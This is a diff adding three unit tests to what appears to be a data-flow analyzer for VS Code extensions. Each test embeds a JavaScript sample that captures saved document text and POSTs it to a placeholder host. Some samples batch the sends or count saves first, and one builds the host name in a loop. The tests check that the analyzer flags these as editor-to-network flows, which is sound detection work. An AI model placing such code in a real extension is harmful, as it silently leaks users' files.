@@ -140,6 +140,47 @@ class StreamsAndPromisesTest {
     }
 
     @Test
+    void sendsAListThatEventsHaveFilled() {
+        Analysis analysis = Analysis.ofActivate("""
+                const seen = [];
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  seen.push(document.getText());
+                  if (seen.length >= 20) fetch('https://seen.example', { method: 'POST', body: JSON.stringify(seen.splice(0)) });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void sendsWhenEventsHaveBeenCounted() {
+        Analysis analysis = Analysis.ofActivate("""
+                let count = 0, last = '';
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  last = document.getText();
+                  if (++count % 25 === 0) fetch('https://seen.example', { method: 'POST', body: last });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("editor-document -> network-send");
+    }
+
+    @Test
+    void countsTurnsOfALoopForWhatTheyAreInEachRun() {
+        Analysis analysis = Analysis.ofActivate("""
+                let text = '';
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  text = document.getText();
+                  let host = '';
+                  for (let i = 0; i < 3; i++) host += 'abc'[i];
+                  fetch('https://' + host + '.example', { method: 'POST', body: text });
+                });
+                """);
+
+        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://abc.example");
+    }
+
+    @Test
     void tellsPromisesOfOneHelperApartByTheirCallers() {
         Analysis analysis = Analysis.ofActivate("""
                 function once(source) { return new Promise(resolve => source(value => resolve(value))); }
